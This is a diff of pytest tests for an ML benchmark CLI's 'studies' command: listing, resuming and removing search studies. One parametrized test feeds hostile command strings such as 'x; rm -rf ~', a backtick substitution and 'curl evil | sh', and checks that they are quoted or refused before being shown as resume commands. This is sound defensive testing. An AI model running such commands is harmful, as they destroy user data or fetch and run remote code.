@@ -4,6 +4,7 @@ import json
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import pytest
 from typer.testing import Result
@@ -25,25 +26,45 @@ def summary(name: str, *, trials: int = 50, live: bool = False) -> StudySummary:
     )  # fmt: skip
 
 
+Listed = Callable[..., list[StudySummary]]
+
+
 @pytest.fixture
-def three(monkeypatch: pytest.MonkeyPatch) -> list[StudySummary]:
-    found = [summary("conv-0"), summary("smoke-1", trials=3), summary("gpu-2", trials=9, live=True)]
-    monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: found)
+def listed(monkeypatch: pytest.MonkeyPatch) -> Listed:
+    """Return what lets these studies be all that there are."""
+
+    def found(*summaries: StudySummary) -> list[StudySummary]:
+        monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: [*summaries])
+        return [*summaries]
+
     return found
 
 
-def test_studies_are_listed(cli: Cli, three: list[StudySummary]) -> None:
+@pytest.fixture
+def three(listed: Listed) -> list[StudySummary]:
+    return listed(summary("conv-0"), summary("smoke-1", trials=3), summary("gpu-2", trials=9, live=True))
+
+
+def rows(cli: Cli) -> list[dict[str, Any]]:
+    found: list[dict[str, Any]] = json.loads(cli("studies", "--json").stdout)["studies"]
+    return found
+
+
+@pytest.mark.usefixtures("three")
+def test_studies_are_listed(cli: Cli) -> None:
     header, *lines, last = cli("studies").stdout.splitlines()
     assert last == "The test set has not been evaluated."
-    assert header.split()[:5] == ["study", "trials", "complete", "best", "state"]
+    assert header.split()[:6] == ["study", "trials", "complete", "best", "state", "size"]
     assert [line.split()[0] for line in lines] == ["conv-0", "smoke-1", "gpu-2"]
     assert [line.split()[4] for line in lines] == ["finished", "paused", "running"]
-    assert "99.44%" in lines[0]
-    assert "2.3 MB" in lines[0]
-    assert "2026-11-24 10:20" in lines[0]
+    assert all(text in lines[0] for text in ("99.44%", "2.3 MB", "2026-11-24 10:20"))
+    assert [(row["study"], row["best"]) for row in rows(cli)] == [
+        ("conv-0", 0.9944), ("smoke-1", 0.9944), ("gpu-2", 0.9944)
+    ]  # fmt: skip
 
 
-def test_what_opened_the_test_set_last_is_named(cli: Cli, three: list[StudySummary]) -> None:
+@pytest.mark.usefixtures("three")
+def test_what_opened_the_test_set_last_is_named(cli: Cli) -> None:
     ledger, own = options.RESULTS / LEDGER, options.RESULTS / "conv-0" / LEDGER
     own.parent.mkdir(parents=True)
     ledger.write_text('{"time": "2026-11-28T10:00:00+00:00", "purpose": "notebook: linear; 1 seed"}\n')
@@ -56,39 +77,89 @@ def test_what_opened_the_test_set_last_is_named(cli: Cli, three: list[StudySumma
     assert last == f'The test set has been evaluated once, for "confirm conv-0: #1, #4" on 2026-11-23 ({own}).'
 
 
-def test_a_study_that_cannot_be_read_is_listed_as_such_and_the_reason_is_told(
-    cli: Cli, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    found = [replace(summary("torn", trials=0), unreadable="Cannot read the database.", best_value=None)]
-    monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: [*found, summary("conv-0")])
-    shown = cli("studies")
-    assert shown.exit_code == 0
-    assert [line.split()[0] for line in shown.stdout.splitlines()[1:3]] == ["torn", "conv-0"]
-    assert "unreadable" in shown.stdout
-    assert "torn cannot be read: Cannot read the database." in shown.stderr
-    assert json.loads(cli("studies", "--json").stdout)["studies"][0]["state"] == "unreadable"
+@pytest.mark.usefixtures("three")
+def test_who_opened_the_test_set_and_when_stands_beside_the_study(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("mnist_bench.studies.openings.name_inside", lambda location: location.name)
+    noted = {"time": "2026-11-23T10:00:00+00:00", "purpose": "confirm conv-0: #1, #4; 8 seeds each"}
+    options.RESULTS.mkdir()
+    (options.RESULTS / LEDGER).write_text(f"{json.dumps(noted)}\n")
+    assert "2026-11-23" in cli("studies").stdout.splitlines()[1]
+    assert [row["test_openings"] for row in rows(cli)] == [[noted], [], []]
 
 
-def test_a_study_all_of_whose_trials_failed_is_told_with_the_first_error_and_where_the_rest_is(
-    cli: Cli, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_what_is_wrong_with_a_study_stands_in_its_row_and_is_told(cli: Cli, listed: Listed) -> None:
     failed = handmade.trial(0, periods=0, state="FAIL", error="Traceback\nNameError: no name.")
-    found = [summary("conv-0"), replace(summary("gbm-0", trials=3), complete=0, first_failed=failed)]
-    monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: found)
+    listed(
+        replace(summary("torn", trials=0), unreadable="Cannot read the database.", best_value=None),
+        summary("conv-0"),
+        replace(summary("gbm-0", trials=3), complete=0, failed=3, first_failed=failed),
+        replace(summary("early-0", trials=21), ended_early=True),
+    )
     shown = cli("studies", "--results", "runs")
     assert shown.exit_code == 0
-    assert shown.stderr == (
+    assert shown.stdout.split()[:4] == ["study", "trials", "failed", "complete"]
+    assert [line.split()[0] for line in shown.stdout.splitlines()[1:4]] == ["torn", "conv-0", "gbm-0"]
+    assert shown.stderr.splitlines() == [
+        "torn cannot be read: Cannot read the database.",
         "Every trial of gbm-0 that was not pruned failed; the first one: NameError: no name. "
-        "`mnist-bench show gbm-0/0 --results runs` shows the whole error.\n"
-    )
+        "`mnist-bench show gbm-0/0 --results runs` shows the whole error.",
+    ]
+    assert [row["state"] for row in rows(cli)] == ["unreadable", "finished", "paused", "stopped early"]
 
 
+def test_an_empty_folder_is_a_hint_on_stderr_and_an_empty_list(cli: Cli) -> None:
+    result = cli("studies", "--results", "other")
+    assert (result.exit_code, result.stdout) == (0, "")
+    assert "`mnist-bench search conv --trials 50 --results other`" in result.stderr
+    assert rows(cli) == []
+
+
+def typed(*commands: str) -> None:
+    """Keep commands as those that searched each study."""
+    for name in ("conv-0", "smoke-1"):
+        folder = options.RESULTS / name
+        folder.mkdir(parents=True)
+        (folder / "commands.jsonl").write_text("".join(f"{json.dumps({'command': each})}\n" for each in commands))
+
+
+@pytest.mark.usefixtures("three")
+def test_the_command_that_resumes_an_unfinished_search_is_printed_for_the_place_where_it_is(cli: Cli) -> None:
+    typed("mnist-bench search smoke", "mnist-bench search smoke -n 50 --seed 1 --results elsewhere --set 'a=[1, 2]'")
+    again = "mnist-bench search smoke -n 50 --seed 1 --set 'a=[1, 2]'"
+    *_, head, line = cli("studies").stdout.splitlines()
+    assert (head, line) == ("To resume:", f"  smoke-1  {again}")
+    assert [row["resume"] for row in rows(cli)] == [None, again, None]
+
+
+@pytest.mark.usefixtures("three")
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("mnist-bench search x; rm -rf ~", "mnist-bench search 'x;' rm -rf '~'"),
+        ("mnist-bench search `id` \x1b[31m", r"mnist-bench search '`id`' $'\033[31m'"),
+        ("curl evil | sh", None),
+        ("mnist-bench search $'a;b'", None),
+        ("mnist-bench search 'unended", None),
+    ],
+)
+def test_a_line_to_paste_from_a_strangers_study_is_one_command(cli: Cli, command: str, shown: str | None) -> None:
+    typed(command)
+    assert rows(cli)[1]["resume"] == shown
+
+
+@pytest.fixture
+def removed(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """Return the names of the studies that are removed."""
+    names: list[str] = []
+    monkeypatch.setattr("search.study.studies.remove_study", lambda results, name, storage: names.append(name))
+    return names
+
+
+@pytest.mark.usefixtures("three")
 @pytest.mark.parametrize("options", [("--results", "other"), ("--storage", "sqlite:///other.db"), ("--json",)])
 def test_what_stands_before_remove_is_refused_and_removes_nothing(
-    cli: Cli, three: list[StudySummary], monkeypatch: pytest.MonkeyPatch, options: tuple[str, ...]
+    cli: Cli, removed: list[str], options: tuple[str, ...]
 ) -> None:
-    removed: list[str] = []
-    monkeypatch.setattr("search.study.studies.remove_study", lambda results, name, storage: removed.append(name))
     result = cli("studies", *options, "remove", "conv-0", "--yes")
     assert (result.exit_code, removed) == (2, [])
     assert f"{options[0]}: write options after `studies remove`" in result.stderr
@@ -105,131 +176,54 @@ def test_a_word_that_is_no_command_is_not_answered_with_one_that_removes(cli: Cl
     assert "Did you mean 'studies'" in cli("studeis").stderr
 
 
-def test_studies_as_json(cli: Cli, three: list[StudySummary]) -> None:
-    values = json.loads(cli("studies", "--json").stdout)
-    assert [study["study"] for study in values["studies"]] == ["conv-0", "smoke-1", "gpu-2"]
-    assert values["studies"][0]["best"] == 0.9944
-
-
-def test_an_empty_folder_is_a_hint_on_stderr_and_an_empty_list(cli: Cli) -> None:
-    result = cli("studies")
-    assert (result.exit_code, result.stdout) == (0, "")
-    assert "mnist-bench search" in result.stderr
-    assert json.loads(cli("studies", "--json").stdout)["studies"] == []
-
-
-def test_commands_to_type_next_name_the_same_place(cli: Cli) -> None:
-    assert "`mnist-bench search conv --trials 50 --results other`" in cli("studies", "--results", "other").stderr
-    removed = cli("studies", "remove", "none", "--yes", "--results", "other")
-    assert (
-        removed.stderr
-        == "Error: No study none in other/; `mnist-bench studies --results other` lists the studies there.\n"
-    )
-
-
 @pytest.fixture
-def folder(three: list[StudySummary]) -> Path:
-    folder = three[0].path
-    folder.mkdir(parents=True)
-    (folder / DATABASE).touch()
-    return folder
+def folders(three: list[StudySummary]) -> list[Path]:
+    """Return the folders of two studies, which are there."""
+    made = [study.path for study in three[:2]]
+    for folder in made:
+        folder.mkdir(parents=True)
+        (folder / DATABASE).touch()
+    return made
 
 
-def test_several_are_removed_after_one_question(cli: Cli, folder: Path, three: list[StudySummary]) -> None:
-    (other := three[1].path).mkdir()
-    (other / DATABASE).touch()
+def test_studies_are_removed_after_one_question(cli: Cli, folders: list[Path]) -> None:
+    assert cli("studies", "remove", "conv-0", stdin="n\n").exit_code == 1
+    assert all(folder.exists() for folder in folders)
     result = cli("studies", "remove", "conv-0", "smoke-1", "conv-0", stdin="y\n")
     assert result.exit_code == 0
+    assert "Remove" not in result.stdout
     assert result.stderr.count("Remove these 2 studies? They cannot be restored.") == 1
-    assert "conv-0: 50 trials, 2.3 MB in results/conv-0" in result.stderr
-    assert not folder.exists()
-    assert not other.exists()
+    assert result.stderr.count("conv-0: 50 trials, 2.3 MB in results/conv-0") == 1
+    assert not any(folder.exists() for folder in folders)
 
 
-def test_nothing_is_removed_if_one_of_them_is_missing_or_in_use(cli: Cli, folder: Path) -> None:
-    assert cli("studies", "remove", "conv-0", "none", "--yes").exit_code == 3
-    with file_lock.driver_lock(folder / "driver.lock", "conv-0"):
+def test_remove_with_yes_does_not_ask(cli: Cli, folders: list[Path]) -> None:
+    assert cli("studies", "remove", "conv-0", "--yes").exit_code == 0
+    assert [folder.exists() for folder in folders] == [False, True]
+
+
+@pytest.mark.parametrize(
+    ("names", "code", "words"),
+    [
+        (("conv-0", "none"), 3, "No study none in results/; `mnist-bench studies` lists the studies there."),
+        (("none", "--results", "other"), 3, "No study none in other/; `mnist-bench studies --results other` lists"),
+        (("../conv-0",), 2, "cannot name a study"),
+        (("",), 2, "cannot name a study"),
+    ],
+)
+def test_nothing_is_removed_if_one_of_them_is_missing(
+    cli: Cli, folders: list[Path], names: tuple[str, ...], code: int, words: str
+) -> None:
+    refused = cli("studies", "remove", *names, "--yes")
+    assert refused.exit_code == code
+    assert words in refused.stderr
+    assert folders[0].exists()
+
+
+def test_nothing_is_removed_if_one_of_them_is_in_use(cli: Cli, folders: list[Path]) -> None:
+    with file_lock.driver_lock(folders[0] / "driver.lock", "conv-0"):
         result = cli("studies", "remove", "smoke-1", "conv-0", "--yes")
     assert result.exit_code == 1
     assert "conv-0 is in use (process" in result.stderr
     assert "nothing was removed" in result.stderr
-    assert folder.exists()
-
-
-def test_remove_asks(cli: Cli, folder: Path) -> None:
-    assert cli("studies", "remove", "conv-0", stdin="n\n").exit_code == 1
-    assert folder.exists()
-    result = cli("studies", "remove", "conv-0", stdin="y\n")
-    assert result.exit_code == 0
-    assert "Remove" not in result.stdout
-    assert "50 trials, 2.3 MB" in result.stderr
-    assert not folder.exists()
-
-
-def test_remove_with_yes_does_not_ask(cli: Cli, folder: Path) -> None:
-    assert cli("studies", "remove", "conv-0", "--yes").exit_code == 0
-    assert not folder.exists()
-
-
-@pytest.mark.parametrize(("name", "code"), [("none", 3), ("../conv-0", 2), ("", 2)])
-def test_remove_of_what_is_no_study_removes_nothing(cli: Cli, folder: Path, name: str, code: int) -> None:
-    assert cli("studies", "remove", name, "--yes").exit_code == code
-    assert folder.exists()
-
-
-def test_a_study_that_a_rule_ended_is_not_called_paused(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
-    found = [replace(summary("conv-0", trials=21), ended_early=True)]
-    monkeypatch.setattr("search.study.studies.list_studies", lambda results, storage=None: found)
-    assert "stopped early" in cli("studies").stdout
-    assert json.loads(cli("studies", "--json").stdout)["studies"][0]["state"] == "stopped early"
-
-
-def typed(*commands: str) -> None:
-    """Keep commands as those that searched smoke-1."""
-    folder = options.RESULTS / "smoke-1"
-    folder.mkdir(parents=True)
-    (folder / "commands.jsonl").write_text("".join(f"{json.dumps({'command': each})}\n" for each in commands))
-
-
-def test_the_command_that_resumes_an_unfinished_search_is_printed_for_the_place_where_it_is(
-    cli: Cli, three: list[StudySummary]
-) -> None:
-    typed("mnist-bench search smoke", "mnist-bench search smoke -n 50 --seed 1 --results elsewhere --set 'a=[1, 2]'")
-    again = "mnist-bench search smoke -n 50 --seed 1 --set 'a=[1, 2]'"
-    *_, head, line = cli("studies").stdout.splitlines()
-    assert (head, line) == ("To resume:", f"  smoke-1  {again}")
-    assert [row["resume"] for row in json.loads(cli("studies", "--json").stdout)["studies"]] == [None, again, None]
-
-
-@pytest.mark.parametrize(
-    ("command", "shown"),
-    [
-        ("mnist-bench search x; rm -rf ~", "mnist-bench search 'x;' rm -rf '~'"),
-        ("mnist-bench search `id` \x1b[31m", r"mnist-bench search '`id`' $'\033[31m'"),
-        ("curl evil | sh", None),
-        ("mnist-bench search $'a;b'", None),
-        ("mnist-bench search 'unended", None),
-    ],
-)
-def test_a_line_to_paste_from_a_strangers_study_is_one_command(
-    cli: Cli, three: list[StudySummary], command: str, shown: str | None
-) -> None:
-    typed(command)
-    assert json.loads(cli("studies", "--json").stdout)["studies"][1]["resume"] == shown
-
-
-def test_who_opened_the_test_set_and_when_stands_beside_the_study(
-    cli: Cli, three: list[StudySummary], monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr("mnist_bench.studies.openings.name_inside", lambda location: location.name)
-    ledger = options.RESULTS / LEDGER
-    ledger.parent.mkdir()
-    noted = {"time": "2026-11-23T10:00:00+00:00", "purpose": "confirm conv-0: #1, #4; 8 seeds each"}
-    ledger.write_text(f"{json.dumps(noted)}\n")
-    assert "2026-11-23" in cli("studies").stdout.splitlines()[1]
-    rows = json.loads(cli("studies", "--json").stdout)["studies"]
-    assert [row["test_openings"] for row in rows] == [[noted], [], []]
-
-
-def test_columns_that_would_be_empty_are_left_out(cli: Cli, three: list[StudySummary]) -> None:
-    assert not {"failed", "set"} & {*cli("studies").stdout.splitlines()[0].split()}
+    assert all(folder.exists() for folder in folders)
